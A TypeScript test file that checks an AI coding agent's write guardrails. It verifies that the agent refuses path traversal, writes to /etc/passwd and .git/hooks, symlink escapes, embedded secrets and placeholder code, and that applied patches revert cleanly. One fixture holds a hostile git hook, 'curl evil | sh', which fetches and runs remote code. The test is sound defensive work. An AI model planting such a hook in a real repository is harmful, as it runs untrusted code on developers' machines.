import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, realpath, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MissionIntentSchema, type RunEvent } from '../contracts/index.js';
import { defaultExecutionPolicy } from '../policy/index.js';
import { applyProposals } from './apply-proposals.js';
import { buildProposal } from './build-proposal.js';
import { createEngageRuntime } from './engage-runtime.js';
import { findRevertPlans, revertPlan } from './revert-workspace.js';
import { splitIntoChunks } from './split-into-chunks.js';

const SECRET = 'sk-envelope-0123456789abcdefghijkl';

function intentWith(safety: Record<string, unknown> = {}) {
  return MissionIntentSchema.parse({
    mission_id: 'mi_engage_test',
    created_at: '2026-11-22T10:00:00Z',
    objective: 'fix it',
    safety: { write_scope: ['src/**'], ...safety },
  });
}

async function workspace(): Promise<string> {
  const root = await realpath(await mkdtemp(join(tmpdir(), 'engage-')));
  await mkdir(join(root, 'src'), { recursive: true });
  await mkdir(join(root, '.git', 'hooks'), { recursive: true });
  await writeFile(join(root, 'src', 'app.js'), 'export const answer = 41;\n');
  await writeFile(join(root, 'README.md'), '# readme\n');
  return root;
}

/** sha256 of every file under root (relative path → hash): the workspace, compared by hash. */
async function snapshot(root: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (dir: string) => {
    for (const entry of await readdir(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) await walk(path);
      else
        out[relative(root, path)] = createHash('sha256')
          .update(await readFile(path))
          .digest('hex');
    }
  };
  await walk(root);
  return out;
}

const guardrails = defaultExecutionPolicy().guardrails;

async function propose(
  root: string,
  edits: { path: string; content: string }[],
  safety: Record<string, unknown> = {},
) {
  return buildProposal(edits, { workspace: root, intent: intentWith(safety), guardrails, secrets: [SECRET] });
}

describe('the write envelope', () => {
  it('refuses traversal, absolute paths, .git/hooks, protected files and paths outside the write scope, with reasons', async () => {
    const root = await workspace();
    const built = await propose(root, [
      { path: '../outside.js', content: 'x\n' },
      { path: 'src/../../outside.js', content: 'x\n' },
      { path: '/etc/passwd', content: 'x\n' },
      { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' },
      { path: 'AGENTS.md', content: 'charter\n' },
      { path: 'README.md', content: '# mine now\n' },
    ]);
    expect(built.changes).toEqual([]);
    expect(built.refused.map((refusal) => [refusal.capability, refusal.reason])).toEqual([
      ['workspace_write:../outside.js', expect.stringContaining('leaves the workspace')],
      ['workspace_write:src/../../outside.js', expect.stringContaining('leaves the workspace')],
      ['workspace_write:/etc/passwd', expect.stringContaining('is absolute')],
      ['workspace_write:.git/hooks/pre-commit', expect.stringContaining('.git')],
      ['workspace_write:AGENTS.md', expect.stringContaining('is protected')],
      ['workspace_write:README.md', "is outside the intent's write scope (src/**)"],
    ]);
  });

  it('refuses a symlink escape, through a symlinked folder or a symlinked file', async () => {
    const root = await workspace();
    const outside = await realpath(await mkdtemp(join(tmpdir(), 'outside-')));
    await writeFile(join(outside, 'target.js'), 'original\n');
    await symlink(outside, join(root, 'src', 'linked'));
    await symlink(join(outside, 'target.js'), join(root, 'src', 'file-link.js'));
    const built = await propose(root, [
      { path: 'src/linked/target.js', content: 'pwned\n' },
      { path: 'src/file-link.js', content: 'pwned\n' },
    ]);
    expect(built.changes).toEqual([]);
    expect(built.refused.map((refusal) => refusal.reason)).toEqual([
      'goes through the symlink src/linked',
      'goes through the symlink src/file-link.js',
    ]);
    expect(await readFile(join(outside, 'target.js'), 'utf8')).toBe('original\n');
  });

  it('refuses oversized writes (bytes and changed lines), placeholders and secrets, saying why', async () => {
    const root = await workspace();
    const huge = 'x'.repeat(guardrails.max_file_bytes + 1);
    const many = Array.from({ length: guardrails.max_changed_lines + 5 }, (_, index) => `line ${index}`).join(
      '\n',
    );
    const built = await propose(root, [
      { path: 'src/huge.js', content: huge },
      { path: 'src/many.js', content: many },
      { path: 'src/app.js', content: 'export function answer() {\n  // ...\n}\n' },
      { path: 'src/stub.js', content: `// ${['TO', 'DO'].join('')}: implement here\n` },
      { path: 'src/key.js', content: `const key = '${SECRET}';\n` },
    ]);
    expect(built.changes).toEqual([]);
    const reasons = built.refused.map((refusal) => `${refusal.target}: ${refusal.reason}`);
    expect(reasons[0]).toMatch(/^src\/huge\.js: oversized write: \d+ bytes/);
    expect(reasons[1]).toMatch(/^src\/many\.js: oversized write: \d+ changed lines/);
    expect(reasons[2]).toMatch(/^src\/app\.js: placeholder_ban: .*line 2: elided body/);
    expect(reasons[3]).toMatch(/^src\/stub\.js: placeholder_ban: .*implement here/);
    expect(reasons[4]).toBe('src/key.js: holds the value of a secret environment variable');
  });

  it('lets placeholders through when placeholder_ban is off', async () => {
    const root = await workspace();
    const built = await propose(root, [{ path: 'src/app.js', content: '// ...\n' }], {
      placeholder_ban: false,
    });
    expect(built.changes.map((change) => change.path)).toEqual(['src/app.js']);
  });

  it('splits a patch into chunks of at most chunk_size_max changed lines', async () => {
    const root = await workspace();
    const content = Array.from({ length: 250 }, (_, index) => `export const v${index} = ${index};`).join(
      '\n',
    );
    const built = await propose(root, [{ path: 'src/app.js', content: `${content}\n` }]);
    expect(built.changedLines).toBe(251);
    const chunks = splitIntoChunks(built.changes, 200);
    expect(chunks.map((chunk) => [chunk.index, chunk.total, chunk.changedLines])).toEqual([
      [1, 2, 200],
      [2, 2, 51],
    ]);
    expect(chunks[1]?.diff).toMatch(/^--- a\/src\/app\.js\n\+\+\+ b\/src\/app\.js\n@@ /);
  });
});

describe('--apply and mission revert', () => {
  it('records the revert plan before the first write, writes only the scope, and reverts byte for byte', async () => {
    const root = await workspace();
    await writeFile(join(root, 'src', 'bin.sh'), Buffer.from([0x23, 0x21, 0xff, 0x00, 0x0a]), {
      mode: 0o755,
    });
    const before = await snapshot(root);
    const intent = intentWith();
    const built = await buildProposal(
      [
        { path: 'src/app.js', content: 'export const answer = 42;\n' },
        { path: 'src/new/helper.js', content: 'export const helper = 1;\n' },
        { path: 'src/bin.sh', content: '#!/bin/sh\necho fixed\n' },
        { path: 'README.md', content: 'outside the scope\n' },
      ],
      { workspace: root, intent, guardrails, secrets: [] },
    );
    const runtime = createEngageRuntime({ workspace: root, policy: defaultExecutionPolicy(), env: {} });
    const events: { type: string; app: string }[] = [];
    const emit = async (event: RunEvent) => {
      events.push({ type: event.type, app: await readFile(join(root, 'src', 'app.js'), 'utf8') });
    };
    const digests = await mkdtemp(join(tmpdir(), 'digests-'));
    const planPath = join(digests, 'mi_engage_test', 'run-001', 'revert-plan.json');
    const outcome = await applyProposals(
      [{ laneId: 'lane-1', attempt: 1, changes: built.changes, chunks: [], refused: built.refused }],
      { runtime, intent, planPath, emit, now: () => new Date() },
    );
    expect(outcome.written.sort()).toEqual(['src/app.js', 'src/bin.sh', 'src/new/helper.js']);
    expect(events[0]).toEqual({ type: 'revert-plan-write', app: 'export const answer = 41;\n' });
    expect(events.slice(1).every((event) => event.type === 'write-chunk')).toBe(true);
    expect(await readFile(join(root, 'README.md'), 'utf8')).toBe('# readme\n');
    expect((await stat(join(root, 'src', 'bin.sh'))).mode & 0o777).toBe(0o755);

    expect(await findRevertPlans(digests, 'mi_engage_test')).toEqual([planPath]);
    const reverted = await revertPlan(planPath);
    expect(reverted.files.map((file) => `${file.action} ${file.path}`).sort()).toEqual([
      'deleted src/new/helper.js',
      'restored src/app.js',
      'restored src/bin.sh',
    ]);
    expect(await snapshot(root)).toEqual(before);
    await expect(stat(join(root, 'src', 'new'))).rejects.toThrow();
    expect(await findRevertPlans(digests, 'mi_engage_test')).toEqual([]);
  });

  it('refuses to write a file changed since the proposal, and a revert over a file changed since the apply', async () => {
    const root = await workspace();
    const intent = intentWith();
    const built = await buildProposal([{ path: 'src/app.js', content: 'export const answer = 42;\n' }], {
      workspace: root,
      intent,
      guardrails,
      secrets: [],
    });
    const runtime = createEngageRuntime({ workspace: root, policy: defaultExecutionPolicy(), env: {} });
    const planPath = join(await mkdtemp(join(tmpdir(), 'digests-')), 'm', 'run-001', 'revert-plan.json');
    await writeFile(join(root, 'src', 'app.js'), 'edited meanwhile\n');
    const stale = await applyProposals(
      [{ laneId: 'lane-1', attempt: 1, changes: built.changes, chunks: [], refused: [] }],
      { runtime, intent, planPath, emit: async () => {}, now: () => new Date() },
    );
    expect(stale.written).toEqual([]);
    expect(stale.refused[0]?.reason).toMatch(/changed since the patch was proposed/);

    await writeFile(join(root, 'src', 'app.js'), 'export const answer = 41;\n');
    await applyProposals(
      [{ laneId: 'lane-1', attempt: 1, changes: built.changes, chunks: [], refused: [] }],
      { runtime, intent, planPath, emit: async () => {}, now: () => new Date() },
    );
    await writeFile(join(root, 'src', 'app.js'), 'hand edit after apply\n');
    await expect(revertPlan(planPath)).rejects.toThrow(
      /changed since --apply wrote them, not reverted: src\/app\.js/,
    );
    await revertPlan(planPath, { force: true });
    expect(await readFile(join(root, 'src', 'app.js'), 'utf8')).toBe('export const answer = 41;\n');
  });
});
